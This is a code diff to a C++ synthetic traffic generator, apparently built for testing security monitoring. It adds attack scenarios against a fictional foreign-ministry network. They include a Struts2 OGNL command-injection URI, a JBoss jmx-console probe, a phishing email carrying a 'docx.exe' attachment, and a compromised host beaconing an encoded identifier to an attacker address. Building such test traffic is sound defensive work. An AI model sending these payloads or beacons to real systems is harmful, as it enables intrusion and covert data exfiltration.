@@ -123,13 +123,13 @@ void TrafficGenerator::sendSegmented(TcpConversation& c, bool from_client, std::
 }
 
 void TrafficGenerator::httpSession(const std::string& client, const std::string& server, const std::string& host,
-                                   const std::string& uri, std::size_t body_bytes, const std::string& user_agent) {
+                                   const std::string& uri, std::size_t body_bytes, const std::string& user_agent, std::uint16_t port) {
   ++counters_.http_sessions;
   PacketSpec base;
   base.src = client;
   base.dst = server;
   base.sport = ephemeralPort();
-  base.dport = 80;
+  base.dport = port;
   TcpConversation c(base, static_cast<std::uint32_t>(rng_()), static_cast<std::uint32_t>(rng_()));
   for (const Bytes& f : c.handshake()) emit(f);
   const std::string agent = user_agent.empty() ? std::string(kAgents[rng_() % kAgents.size()]) : user_agent;
@@ -248,7 +248,8 @@ void TrafficGenerator::mixed(std::uint64_t bytes, const TrafficMix& mix) {
   while (counters_.bytes < target) {
     const double p = pick(rng_);
     const std::string client = address("192.0.2.");
-    const std::string server = address(rng_() % 2 ? "198.51.100." : "203.0.113.");
+    // External servers stay clear of 203.0.113.0/25, where the attack scenarios' actors live.
+    const std::string server = "203.0.113." + std::to_string(130 + rng_() % 120);
     const std::string host = std::string(kWords[rng_() % kWords.size()]) + ".example.com";
     if (p < mix.http) {
       const std::string uri = "/" + std::string(kWords[rng_() % kWords.size()]) + "/" + std::string(kWords[rng_() % kWords.size()]) + ".html";
@@ -256,11 +257,22 @@ void TrafficGenerator::mixed(std::uint64_t bytes, const TrafficMix& mix) {
     } else if (p < mix.http + mix.tls) {
       tlsSession(client, server, host, 2000 + rng_() % 120000);
     } else if (p < mix.http + mix.tls + mix.dns) {
-      dnsLookup(client, "198.51.100.53", host);
+      dnsLookup(client, "192.0.2.53", host);
     } else {
       smtpSession(server, "192.0.2.25", "news@" + host, "info@mofa.example.go.jp", "月次報告", "report.pdf", 5000 + rng_() % 40000);
     }
   }
+}
+
+void TrafficGenerator::attackScenarios() {
+  httpSession("203.0.113.66", "192.0.2.10", "www.mofa.example.go.jp",
+              "/struts2/login.action?redirect:%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", 300);
+  httpSession("203.0.113.66", "192.0.2.11", "portal.mofa.example.go.jp", "/jmx-console/HtmlAdaptor?action=inspectMBean", 300);
+  smtpSession("203.0.113.90", "192.0.2.25", "joho-kyoyu@freemail.example", "minister-office@mofa.example.go.jp", "資料送付",
+              "資料.docx.exe", 24000);
+  dnsLookup("192.0.2.77", "192.0.2.53", "cdn.update-check.example");
+  httpSession("192.0.2.77", "203.0.113.66", "cdn.update-check.example", "/news/QUdFTkNZLU1PRkEtSE9TVC0wNzc=.html", 200,
+              "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)");
 }
 
 }  // namespace gsoc::traffic
